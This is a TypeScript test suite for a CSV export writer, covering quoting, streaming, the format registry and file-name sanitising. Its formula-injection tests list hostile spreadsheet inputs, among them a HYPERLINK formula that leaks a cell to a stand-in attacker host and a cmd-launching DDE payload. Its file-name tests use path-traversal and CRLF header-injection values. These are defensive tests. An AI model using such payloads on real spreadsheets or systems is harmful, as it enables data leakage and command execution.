import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { runInNewContext } from 'node:vm';
import { setFlagsFromString } from 'node:v8';
import { describe, expect, it } from 'vitest';
import { createCsvWriter, csv } from '../../../src/formats/csv';
import { fileNameFor, formatNames, formats, getFormat } from '../../../src/formats';
import type { Column } from '../../../src/formats';

/**
 * A deliberately small, independent RFC 4180 reader (csv-parse is not installed): quoted fields may hold
 * commas, CRLF/LF and doubled quotes; records end with CRLF. Strict: a stray quote or bare CR is an error.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let fieldStarted = false;
  while (i < text.length) {
    const ch = text[i];
    if (ch === '"' && field === '' && !fieldStarted) {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i];
        i++;
      }
      fieldStarted = true;
      if (i < text.length && text[i] !== ',' && !text.startsWith('\r\n', i)) {
        throw new Error(`garbage after quoted field at ${i}`);
      }
    } else if (ch === ',') {
      record.push(field);
      field = '';
      fieldStarted = false;
      i++;
    } else if (text.startsWith('\r\n', i)) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      fieldStarted = false;
      i += 2;
    } else if (ch === '"' || ch === '\r' || ch === '\n') {
      throw new Error(`unquoted ${JSON.stringify(ch)} at ${i}`);
    } else {
      field += ch;
      fieldStarted = true;
      i++;
    }
  }
  if (fieldStarted || record.length > 0) throw new Error('last record not terminated by CRLF');
  return records;
}

async function render(columns: readonly Column[], rows: readonly object[], writer = csv): Promise<Buffer> {
  const chunks: Buffer[] = [];
  await pipeline(
    Readable.from(rows),
    writer.createStream({ columns }),
    new Writable({
      write(chunk: Buffer, _encoding, callback) {
        chunks.push(chunk);
        callback();
      },
    }),
  );
  return Buffer.concat(chunks);
}

async function renderText(columns: readonly Column[], rows: readonly object[]): Promise<string> {
  return (await render(columns, rows)).toString('utf8');
}

const cols: Column[] = [
  { key: 'name', header: 'Name' },
  { key: 'value', header: 'Value' },
];

describe('csv writer: structure and round trip', () => {
  it('describes itself', () => {
    expect(csv.name).toBe('csv');
    expect(csv.contentType).toBe('text/csv; charset=utf-8');
    expect(csv.fileExtension).toBe('csv');
  });

  it('writes the header from the columns, in column order, then one CRLF record per row', async () => {
    const text = await renderText(
      [
        { key: 'b', header: 'Second key first' },
        { key: 'a', header: 'A' },
      ],
      [
        { a: 1, b: 'x', ignored: 'nope' },
        { a: 2, b: 'y' },
      ],
    );
    expect(text).toBe('Second key first,A\r\nx,1\r\ny,2\r\n');
  });

  it('round-trips commas, quotes, newlines, unicode, empty, null and undefined', async () => {
    const tricky = [
      'plain',
      'a,b,c',
      'say "hi"',
      '"',
      'line1\nline2',
      'line1\r\nline2',
      ' padded ',
      'Beyoncé – Déjà vu 🎵 日本語',
      '',
      "'already quoted",
    ];
    const rows = tricky.map((name, i) => ({ name, value: i }));
    const text = await renderText(cols, [...rows, { name: null, value: undefined }, { value: 7 }]);
    const parsed = parseCsv(text);
    expect(parsed).toEqual([
      ['Name', 'Value'],
      ...tricky.map((name, i) => [name, String(i)]),
      ['', ''],
      ['', '7'],
    ]);
  });

  it('writes numbers unchanged, dates as ISO strings, booleans as words, bigints and objects readably', async () => {
    const text = await renderText(
      [
        { key: 'n', header: 'n' },
        { key: 'f', header: 'f' },
        { key: 'neg', header: 'neg' },
        { key: 'd', header: 'd' },
        { key: 'bad', header: 'bad' },
        { key: 'b', header: 'b' },
        { key: 'big', header: 'big' },
        { key: 'o', header: 'o' },
      ],
      [
        {
          n: 42,
          f: 4.25,
          neg: -17.5,
          d: new Date('2024-03-01T12:34:56.789Z'),
          bad: new Date('nope'),
          b: false,
          big: -12345678901234567890n,
          o: { x: 1 },
        },
      ],
    );
    expect(parseCsv(text)[1]).toEqual([
      '42',
      '4.25',
      '-17.5',
      '2024-03-01T12:34:56.789Z',
      '',
      'false',
      '-12345678901234567890',
      '{"x":1}',
    ]);
  });

  it('reads keys literally (a dot is not a path)', async () => {
    const text = await renderText([{ key: 'a.b', header: 'ab' }], [{ 'a.b': 'flat', a: { b: 'nested' } }]);
    expect(parseCsv(text)).toEqual([['ab'], ['flat']]);
  });

  it('emits the header alone for zero rows', async () => {
    expect(await renderText(cols, [])).toBe('Name,Value\r\n');
  });

  it('is UTF-8 without a BOM by default, with one when asked', async () => {
    const plain = await render(cols, [{ name: 'é', value: 1 }]);
    expect(plain.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    expect(plain.toString('utf8')).toBe('Name,Value\r\né,1\r\n');

    const withBom = await render(cols, [{ name: 'é', value: 1 }], createCsvWriter({ bom: true }));
    expect(withBom.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(withBom.subarray(3).toString('utf8')).toBe('Name,Value\r\né,1\r\n');
    // An empty export with BOM still gets the BOM once.
    const emptyWithBom = await render(cols, [], createCsvWriter({ bom: true }));
    expect(emptyWithBom.toString('utf8')).toBe('\uFEFFName,Value\r\n');
  });

  it('gives each export a fresh stream', async () => {
    const first = csv.createStream({ columns: cols });
    const second = csv.createStream({ columns: cols });
    expect(first).not.toBe(second);
    expect(first.writableObjectMode).toBe(true);
    expect(first.readableObjectMode).toBe(false);
    first.destroy();
    second.destroy();
  });
});

describe('csv writer: formula injection', () => {
  const dangerous = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '-',
    '@SUM(A1:A2)',
    '\tleading tab',
    '\rleading CR',
    '\r\n=evil',
  ];

  it.each(dangerous)('prefixes %j with a single quote and round-trips otherwise unchanged', async (value) => {
    const parsed = parseCsv(await renderText(cols, [{ name: value, value: 1 }]));
    expect(parsed[1]).toEqual([`'${value}`, '1']);
  });

  it('covers every dangerous first character, and only the first one', async () => {
    const rows = ['=', '+', '-', '@', '\t', '\r'].map((prefix) => ({
      name: `${prefix}x`,
      value: `a${prefix}b`,
    }));
    const parsed = parseCsv(await renderText(cols, rows));
    expect(parsed.slice(1)).toEqual(rows.map((row) => [`'${row.name}`, row.value]));
  });

  it('leaves numbers, including negative ones, and harmless strings alone', async () => {
    const rows = [
      { name: -5, value: -0.25 },
      { name: -1e21, value: -12n },
      { name: 'safe text', value: '1-2' },
      { name: ' =not first', value: "'=already" },
    ];
    const parsed = parseCsv(await renderText(cols, rows));
    expect(parsed.slice(1)).toEqual([
      ['-5', '-0.25'],
      ['-1e+21', '-12'],
      ['safe text', '1-2'],
      [' =not first', "'=already"],
    ]);
  });

  it('escapes header cells too', async () => {
    const parsed = parseCsv(
      await renderText(
        [
          { key: 'a', header: '=cmd()' },
          { key: 'b', header: '-B' },
          { key: 'c', header: 'Plain, with comma' },
        ],
        [],
      ),
    );
    expect(parsed).toEqual([["'=cmd()", "'-B", 'Plain, with comma']]);
  });
});

describe('csv writer: streaming', () => {
  it('honours backpressure: 200,000 rows from an async generator into a slow consumer', async () => {
    const total = 200_000;
    let produced = 0;
    let consumedRecords = 0;
    let maxAhead = 0;
    async function* rows(): AsyncGenerator<{ name: string; value: number }> {
      for (let i = 0; i < total; i++) {
        produced++;
        maxAhead = Math.max(maxAhead, produced - consumedRecords);
        yield { name: `row ${i}`, value: i };
      }
    }
    let lastLine = '';
    const slow = new Writable({
      highWaterMark: 1024,
      write(chunk: Buffer, _encoding, callback) {
        const text = chunk.toString('utf8');
        consumedRecords += text.split('\r\n').length - 1;
        lastLine = text;
        // Yield to the event loop on every chunk and pause now and then: the producer must wait.
        if (consumedRecords % 20_000 === 0) setTimeout(callback, 5);
        else setImmediate(callback);
      },
    });
    const started = Date.now();
    await pipeline(rows(), csv.createStream({ columns: cols }), slow);
    expect(consumedRecords).toBe(total + 1); // header + every row
    expect(lastLine).toBe(`row ${total - 1},${total - 1}\r\n`);
    // Bounded buffering: the generator never ran far ahead of what the consumer had taken.
    expect(maxAhead).toBeLessThan(5_000);
    expect(Date.now() - started).toBeLessThan(20_000);
  });

  it('keeps memory flat: 1,000,000 rows into a null sink', async () => {
    const gc = exposeGc();
    const total = 1_000_000;
    const sampleEvery = 100_000;
    let peakGrowth = 0;
    gc?.();
    const baseline = process.memoryUsage().heapUsed;
    function* rows(): Generator<{ id: number; name: string; score: number }> {
      for (let i = 0; i < total; i++) {
        if (i > 0 && i % sampleEvery === 0) {
          gc?.();
          peakGrowth = Math.max(peakGrowth, process.memoryUsage().heapUsed - baseline);
        }
        yield { id: i, name: `album ${i}`, score: i % 5 };
      }
    }
    let bytes = 0;
    const sink = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        bytes += chunk.length;
        callback();
      },
    });
    const started = Date.now();
    await pipeline(
      Readable.from(rows()),
      csv.createStream({
        columns: [
          { key: 'id', header: 'Id' },
          { key: 'name', header: 'Name' },
          { key: 'score', header: 'Score' },
        ],
      }),
      sink,
    );
    const elapsed = Date.now() - started;
    gc?.();
    const finalGrowth = process.memoryUsage().heapUsed - baseline;
    // The output alone is ~25 MB; buffering it (or the rows) would blow well past these limits.
    expect(bytes).toBeGreaterThan(20_000_000);
    expect(peakGrowth).toBeLessThan(50 * 1024 * 1024);
    expect(finalGrowth).toBeLessThan(50 * 1024 * 1024);
    expect(elapsed).toBeLessThan(15_000);
  });
});

/** `global.gc` if the process has it, else turned on through V8 flags; undefined if neither works. */
function exposeGc(): (() => void) | undefined {
  const existing = (globalThis as { gc?: () => void }).gc;
  if (typeof existing === 'function') return existing;
  try {
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as unknown;
    return typeof gc === 'function' ? (gc as () => void) : undefined;
  } catch {
    return undefined;
  }
}

describe('format registry', () => {
  it('lists every format and finds formats by exact name only', () => {
    expect(formats.map((format) => format.name)).toEqual(['csv', 'json', 'ndjson', 'xlsx', 'pdf', 'parquet']);
    expect(formatNames).toEqual(['csv', 'json', 'ndjson', 'xlsx', 'pdf', 'parquet']);
    expect(getFormat('csv')).toBe(csv);
    expect(getFormat('CSV')).toBeUndefined();
    expect(getFormat('docx')).toBeUndefined();
    expect(getFormat('constructor')).toBeUndefined();
    expect(getFormat('__proto__')).toBeUndefined();
  });
});

describe('fileNameFor', () => {
  const safe = /^[A-Za-z0-9][A-Za-z0-9._-]*$/;

  it('builds <type>-<id>.<ext>', () => {
    expect(fileNameFor('popularity', '0f8e2c1a-1b2c-4d5e-8f90-123456789abc', 'csv')).toBe(
      'popularity-0f8e2c1a-1b2c-4d5e-8f90-123456789abc.csv',
    );
    expect(fileNameFor('ratings', 'abc', '.CSV')).toBe('ratings-abc.csv');
  });

  it.each([
    ['../../etc', 'passwd', 'csv'],
    ['pop/ular\\ity', 'id with spaces & "quotes"', 'csv'],
    ['', '', ''],
    ['...', '---', '.'],
    ['Beyoncé', 'id\r\nSet-Cookie: x', 'c/s\\v'],
    ['x'.repeat(500), 'y'.repeat(500), 'csv'],
  ])('sanitises (%j, %j, %j)', (type, id, ext) => {
    const name = fileNameFor(type, id, ext);
    expect(name).toMatch(safe);
    expect(name).not.toContain('..');
    expect(name.length).toBeLessThanOrEqual(200);
  });

  it('keeps recognisable parts when sanitising', () => {
    expect(fileNameFor('../../etc', 'passwd', 'csv')).toBe('etc-passwd.csv');
    expect(fileNameFor('Beyoncé', 'a b', 'csv')).toBe('Beyonce-a-b.csv');
    expect(fileNameFor('', '', '')).toBe('report-export.bin');
  });
});
